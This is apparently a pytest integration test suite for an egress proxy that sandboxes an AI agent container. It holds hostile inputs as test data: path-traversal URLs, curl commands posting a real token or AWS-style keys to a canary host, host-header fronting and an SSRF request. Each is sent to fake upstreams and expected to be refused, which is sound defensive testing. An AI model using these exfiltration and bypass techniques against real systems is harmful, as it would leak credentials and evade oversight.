"""The egress proxy in the sidecars image, attacked from inside a real agent container.

Routes: api.anthropic.com (bearer injection), canary.bottle.test (no auth, DLP
block) and internal.bottle.test (only loopback allowed, so its private docker
address must be refused). All three names point at our fake upstream.
"""
from __future__ import annotations

import json
import shlex

import pytest

from tests.integration.bottlekit import CANARY, PRIVATE, running_bottle

API = "https://api.anthropic.com"


@pytest.fixture(scope="module")
def bottle(tmp_path_factory, docker_client, test_run_id):
    routes = [{"host": CANARY, "methods": ["GET", "POST"], "dlp": "block"},
              {"host": PRIVATE, "allow_cidrs": ["127.0.0.1/32"]}]
    with running_bottle(tmp_path_factory.mktemp("egress"), docker_client, test_run_id, "egr",
                        extra_routes=routes) as b:
        b.put_fake("ws_client.mjs")
        yield b


def curl(bottle, *args: str) -> tuple[int, str, str]:
    """(exit code, status line + headers, body) of one curl run in the agent."""
    code, out = bottle.exec("curl -sS -m 20 -D /tmp/h -o /tmp/b " + " ".join(shlex.quote(a) for a in args)
                            + "; echo; cat /tmp/h; echo ===; cat /tmp/b")
    head, _, body = out.partition("===\n")
    return code, head, body


def blocked(bottle, rule: str, *args: str) -> str:
    before = len(bottle.fake_requests())
    _, head, body = curl(bottle, *args)
    assert " 403" in head, head + body
    reason = next(l for l in head.lower().splitlines() if l.startswith("x-bottle-block-reason:"))
    assert rule in reason, reason
    assert "Blocked by the claude-bottle egress proxy" in body
    assert len(bottle.fake_requests()) == before, "a refused request reached the upstream"
    return reason


def test_allowed_request_carries_the_real_token(bottle):
    code, head, body = curl(bottle, "-X", "POST", "-d", "{}", f"{API}/v1/messages")
    assert " 200" in head and json.loads(body)["auth_ok"] is True, head + body


def test_host_case_is_normalised(bottle):
    code, head, body = curl(bottle, "-X", "POST", "-d", "{}", "https://API.Anthropic.COM/v1/messages")
    assert " 200" in head and json.loads(body)["auth_ok"] is True


@pytest.mark.parametrize("path", ["/v1/../secret", "/v1/%2e%2e/secret", "/v1%2F..%2Fsecret", "/v2/models"])
def test_path_attacks_are_refused(bottle, path):
    blocked(bottle, "path", "--path-as-is", f"{API}{path}")


def test_method_outside_the_route_is_refused(bottle):
    blocked(bottle, "method", "-X", "DELETE", f"{API}/v1/messages")


def test_trace_is_refused(bottle):
    blocked(bottle, "method", "-X", "TRACE", f"{API}/v1/messages")


def test_sni_and_host_must_agree(bottle):
    blocked(bottle, "fronting", "--http1.1", "-H", f"Host: {CANARY}", f"{API}/v1/messages")


def test_absolute_url_and_host_must_agree(bottle):
    blocked(bottle, "fronting", "-H", f"Host: {CANARY}", "http://api.anthropic.com/v1/messages")


def test_placeholder_to_another_host_is_refused(bottle):
    blocked(bottle, "exfil", "-H", "Authorization: Bearer bottle-placeholder", f"https://{CANARY}/x")


def test_real_token_in_a_body_is_refused(bottle):
    blocked(bottle, "exfil", "-X", "POST", "--data-binary", f"leak={bottle.token}", f"https://{CANARY}/x")


def test_aws_key_in_a_json_body_is_refused(bottle):
    key = "AKIA" + "ZXCVBNMASDFGHJKL"  # assembled at run time: no key-shaped literal in the repository
    body = json.dumps({"aws_access_key_id": key, "aws_secret_access_key": "wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY"})
    blocked(bottle, "dlp", "-X", "POST", "-H", "Content-Type: application/json", "--data-binary", body,
            f"https://{CANARY}/upload")


def test_private_upstream_address_is_refused(bottle):
    blocked(bottle, "ssrf", f"https://{PRIVATE}/")


def test_git_receive_pack_is_refused(bottle):
    blocked(bottle, "git", f"{API}/v1/repo.git/info/refs?service=git-receive-pack")


def test_connect_without_tls_is_refused(bottle):
    before = len(bottle.fake_requests())
    code, head, body = curl(bottle, "--proxytunnel", f"http://{CANARY}/plain")
    assert " 200 OK\r\n" not in head.split("\n", 2)[-1] and len(bottle.fake_requests()) == before


def test_invalid_routes_file_on_reload_keeps_the_old_table(bottle):
    routes = bottle.home / f"state/{bottle.agent}/rendered/routes.yaml"
    good = routes.read_text()
    try:
        with open(routes, "r+") as fh:  # in place: the bind mount pins the inode
            fh.write("version: 1\nroutes: [{host: '*.evil'}]\n")
            fh.truncate()
        code, out = bottle.exec("supervisorctl -c /etc/claude-bottle/supervisord.conf signal HUP egress",
                                user="root", role="sidecars")
        assert code == 0, out
        code, head, body = curl(bottle, "-X", "POST", "-d", "{}", f"{API}/v1/messages")
        assert " 200" in head
        code, out = bottle.exec("curl -s -m 10 http://_egress.local/routes")
        assert "api.anthropic.com" in out
        log = (bottle.home / f"state/{bottle.agent}/logs/egress.jsonl").read_text()
        assert '"event":"reload","ok":false' in log
    finally:
        with open(routes, "r+") as fh:
            fh.write(good)
            fh.truncate()


def websocket(bottle, message: str) -> list[str]:
    code, out = bottle.exec(f"node /home/node/ws_client.mjs {CANARY} /socket {shlex.quote(message)}")
    assert code == 0, out
    return out.splitlines()


def test_websocket_messages_are_scanned_like_bodies(bottle):
    clean = websocket(bottle, "hello over a websocket")
    assert clean[0].endswith("101 Switching Protocols") and "received ack:22" in clean, clean
    assert any(r.get("ws_message") == "hello over a websocket" for r in bottle.fake_requests())

    key_id = "AKIA" + "QWERTYUIOPASDFGH"
    leak = websocket(bottle, f'{{"aws_access_key_id": "{key_id}"}}')
    # The message never reaches the upstream; the agent is told why instead of an ack.
    assert leak[0].endswith("101 Switching Protocols"), leak
    assert any(line.startswith("received Blocked by the claude-bottle egress proxy") and "AWS Access Key" in line
               for line in leak), leak
    assert not any("ack:" in line for line in leak), leak
    assert not any(key_id in r.get("ws_message", "") for r in bottle.fake_requests())

    log = (bottle.home / f"state/{bottle.agent}/logs/egress.jsonl").read_text()
    refusals = [json.loads(line) for line in log.splitlines() if '"WEBSOCKET"' in line]
    assert refusals and refusals[-1]["decision"] == "block" and refusals[-1]["host"] == CANARY
    assert key_id not in log

    token = websocket(bottle, f"token={bottle.token}")
    assert any("CLAUDE_CODE_OAUTH_TOKEN" in line for line in token) and not any("ack:" in l for l in token), token
    assert not any(bottle.token in r.get("ws_message", "") for r in bottle.fake_requests())
